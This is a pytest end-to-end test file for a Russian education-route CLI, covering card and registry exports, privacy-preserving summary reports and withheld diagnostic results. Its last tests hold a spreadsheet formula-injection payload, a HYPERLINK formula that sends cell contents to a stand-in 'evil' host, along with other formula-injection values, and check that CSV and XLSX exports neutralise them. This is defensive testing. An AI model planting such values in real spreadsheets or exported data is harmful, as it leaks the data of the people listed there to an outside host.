"""End to end over a real SQLite registry: ``routes export``, ``routes export-registry``,
``reports summary``."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
import zipfile
from collections.abc import Callable
from dataclasses import replace
from datetime import date
from pathlib import Path

import docx
import openpyxl
import pytest
from click.testing import CliRunner, Result

from lms_bridge.cli import cli
from lms_bridge.domain.people import Actor
from lms_bridge.domain.route import Route
from lms_bridge.domain.vocabulary import Role
from lms_bridge.exporters.registry import COLUMNS
from lms_bridge.exporters.xml_card_reader import route_from_xml
from lms_bridge.ports import RouteFilter
from lms_bridge.services.build import build_routes
from lms_bridge.storage.store import SqlRouteStore
from tests.conftest import ROOT, make_diagnostic, make_teacher
from tests.exporters.sample import full_route

DEV = Actor(Role.DEVELOPER, "Разработчик Р.Р.")
Invoke = Callable[..., Result]


@pytest.fixture
def card_route(store: SqlRouteStore) -> Route:
    """Seven teachers of one school with draft routes; teacher 7's route filled in like the sample card."""
    sample = full_route()
    rows = [(make_teacher(n), make_diagnostic(n)) for n in range(1, 7)]
    store.save_diagnostics([*rows, (sample.teacher, sample.diagnostic)])
    build_routes(store, region="67", today=date(2026, 9, 25), actor=DEV)
    [built] = store.list_routes(RouteFilter(teacher_email=sample.teacher.email))
    filled = replace(full_route(built.number), curator_email="", curator_name="Смирнова Ольга Викторовна")
    store.save_route(filled, DEV, "edit")
    return filled


@pytest.fixture
def run(db_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Invoke:
    """Invoke the CLI in a fresh working directory; ``result.files`` = the files it left there."""
    runner = CliRunner()
    env = {"LMS_BRIDGE_DATABASE_URL": db_url, "LMS_BRIDGE_CENTRE_CITY": "г. Смоленск"}
    calls = iter(range(1000))

    def invoke(*args: str) -> Result:
        workdir = tmp_path / f"run{next(calls)}"
        workdir.mkdir()
        monkeypatch.chdir(workdir)
        result = runner.invoke(cli, list(args), env=env, catch_exceptions=False)
        result.files = {p.name: p.read_bytes() for p in workdir.iterdir()}  # type: ignore[attr-defined]
        return result

    return invoke


def test_export_docx_writes_the_card_under_its_default_name(run: Invoke, card_route: Route) -> None:
    result = run("routes", "export", card_route.number, "--format", "docx")
    assert result.exit_code == 0, result.output
    name = f"ИОМ_{card_route.number}.docx"
    assert list(result.files) == [name]
    card = docx.Document(io.BytesIO(result.files[name]))
    text = "\n".join(p.text for p in card.paragraphs)
    assert f"Индивидуальный образовательный маршрут № {card_route.number}" in text
    assert "г. Смоленск" in text  # the city comes from LMS_BRIDGE_CENTRE_CITY
    assert "Центр непрерывного повышения профессионального мастерства" in text


def test_export_xml_to_stdout_round_trips_the_stored_route(run: Invoke, card_route: Route) -> None:
    result = run("routes", "export", card_route.number, "--format", "xml", "-o", "-")
    assert result.exit_code == 0
    assert result.files == {}
    assert route_from_xml(result.stdout_bytes) == card_route


def test_export_json_to_a_named_file(run: Invoke, card_route: Route) -> None:
    result = run("routes", "export", card_route.number, "--format", "json", "-o", "card.json")
    assert result.exit_code == 0
    data = json.loads(result.files["card.json"])
    assert data["number"] == card_route.number
    assert data["teacher"]["full_name"] == "Иванова7 Мария Петровна"
    assert data["activities"][0]["category_label"] == "получение дополнительных знаний"


def test_docx_is_not_written_to_the_terminal(run: Invoke, card_route: Route) -> None:
    result = run("routes", "export", card_route.number, "--format", "docx", "-o", "-")
    assert result.exit_code == 2
    assert "укажите файл" in result.output


def test_registry_csv_has_russian_headers_and_no_diagnostics(run: Invoke, card_route: Route) -> None:
    result = run("routes", "export-registry", "--format", "csv", "-o", "r.csv")
    assert result.exit_code == 0
    raw = result.files["r.csv"]
    assert raw.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads the Cyrillic right
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == [h for _, h in COLUMNS]
    assert len(rows) == 1 + 7
    mine = next(r for r in rows if r[0] == card_route.number)
    assert mine[1:6] == [
        "Иванова7 Мария Петровна",
        "МБОУ «СОШ № 1»",
        "г. Смоленск",
        "реализуется",
        "Смирнова Ольга Викторовна",
    ]
    assert mine[6:10] == ["1", "3", "30.09.2027", "нет"]
    text = raw.decode("utf-8-sig")
    for secret in ("П1.1", "низкий", "М2.3"):  # levels and deficit codes stay on the card
        assert secret not in text


def test_registry_xlsx_and_json(run: Invoke, card_route: Route) -> None:
    result = run("routes", "export-registry", "--format", "xlsx", "--status", "in_progress")
    [name] = result.files
    assert name.startswith("реестр_ИОМ_")
    assert name.endswith(".xlsx")
    ws = openpyxl.load_workbook(io.BytesIO(result.files[name])).active
    assert ws is not None
    assert [c.value for c in ws[1]] == [h for _, h in COLUMNS]
    assert ws.max_row == 2  # only the route in progress
    assert ws["A2"].value == card_route.number
    assert ws["I2"].value.date() == date(2027, 9, 30)
    result = run("routes", "export-registry", "--format", "json", "-o", "-")
    data = json.loads(result.stdout)
    assert len(data) == 7
    assert set(data[0]) == {
        "number",
        "teacher",
        "school",
        "municipality",
        "status",
        "status_label",
        "curator",
        "done",
        "total",
        "deadline",
        "overdue",
    }


def test_reports_summary_over_the_registry_shows_no_people(run: Invoke, card_route: Route) -> None:
    text = run("reports", "summary", "--by", "school").output
    # «СОШ № 1» of Челябинск (6) and of Смоленск (1) are two schools: the one-person school is hidden,
    # so the other joins it («прочие»), else «Челябинск − its schools» or «total − shown» would leak
    assert "прочие: педагогов 7, маршрутов 7" in text
    assert "объединено в «прочие» групп: 2" in text
    # one route has started: «started: 1» would be one person's status
    assert "завершено: 0 из скрыто начатых (—)" in text
    data = json.loads(run("reports", "summary", "--by", "municipality", "--json").output)
    # Челябинск has 6 people, Смоленск 1: shown apart, Смоленск would be «total − Челябинск»
    assert [(g["name"], g["people"]) for g in data["groups"]] == [("прочие", 7)]
    for output in (text, json.dumps(data, ensure_ascii=False)):
        assert "Иванова" not in output
        assert "@school.ru" not in output
        assert card_route.number not in output


def test_the_installed_command_reports_a_missing_route(db_url: str, tmp_path: Path) -> None:
    env = {**os.environ, "PYTHONPATH": str(ROOT), "LMS_BRIDGE_DATABASE_URL": db_url}
    done = subprocess.run(
        [
            sys.executable,
            "-m",
            "lms_bridge",
            "routes",
            "export",
            "67-2026-999999",
            "--format",
            "json",
            "-o",
            "-",
        ],
        env=env,
        cwd=tmp_path,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert done.returncode == 1
    assert "маршрут 67-2026-999999 не найден" in done.stderr
    assert done.stdout == ""


def test_export_for_the_head_withholds_the_results_and_says_why(run: Invoke, card_route: Route) -> None:
    result = run("routes", "export", card_route.number, "--format", "json", "-o", "-", "--for", "head")
    assert result.exit_code == 0, result.output
    data = json.loads(result.stdout_bytes)
    assert data["withheld"].startswith("Результаты диагностики не передаются в образовательную организацию")
    assert data["diagnostic"]["deficit_codes"] is None
    assert data["final_levels"] is None
    full = json.loads(run("routes", "export", card_route.number, "--format", "json", "-o", "-").stdout_bytes)
    assert full["withheld"] is None
    assert full["diagnostic"]["deficit_codes"]


def test_show_for_the_head_says_the_results_are_withheld(run: Invoke, card_route: Route) -> None:
    shown = run("routes", "show", card_route.number, "--for", "head").output
    assert "не передаются в образовательную организацию" in shown
    assert card_route.diagnostic.deficit_codes[0] not in shown
    assert run("routes", "show", card_route.number, "--for", "завуч").exit_code == 2


ATTACK = '=HYPERLINK("http://evil/?leak="&B2&C2,"x")'
HOSTILE = {"school": ATTACK, "municipality": "+1+1", "last_name": "-2+3", "middle_name": "@SUM(A1)\x07"}


@pytest.fixture
def hostile_route(store: SqlRouteStore) -> Route:
    """One route whose teacher's fields were typed by an attacker to run as spreadsheet formulas."""
    teacher = replace(make_teacher(1), **HOSTILE, first_name="\tМария\r")
    store.save_diagnostics([(teacher, make_diagnostic(1))])
    build_routes(store, region="67", today=date(2026, 9, 25), actor=DEV)
    [route] = store.list_routes()
    return route


@pytest.mark.usefixtures("hostile_route")
def test_registry_csv_neutralises_formulas(run: Invoke) -> None:
    result = run("routes", "export-registry", "--format", "csv", "-o", "r.csv")
    text = result.files["r.csv"].decode("utf-8-sig")
    assert '"\'=HYPERLINK(""http://evil/?leak=""&B2&C2,""x"")"' in text  # quote-prefixed and quoted
    [_, row] = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert row[1] == "'-2+3 \tМария\r @SUM(A1)\x07"
    assert row[2:4] == ["'" + ATTACK, "'+1+1"]
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


@pytest.mark.usefixtures("hostile_route")
def test_registry_xlsx_writes_formulas_as_text(run: Invoke) -> None:
    result = run("routes", "export-registry", "--format", "xlsx", "-o", "r.xlsx")
    raw = result.files["r.xlsx"]
    with zipfile.ZipFile(io.BytesIO(raw)) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet
    assert "<f " not in sheet
    ws = openpyxl.load_workbook(io.BytesIO(raw)).active
    assert ws is not None
    school, municipality = ws["C2"], ws["D2"]
    assert (school.value, school.data_type) == (ATTACK, "s")
    assert (municipality.value, municipality.data_type) == ("+1+1", "s")
    assert ws["B2"].value == "-2+3 \tМария\r @SUM(A1)\ufffd"  # XML cannot carry \x07: no crash
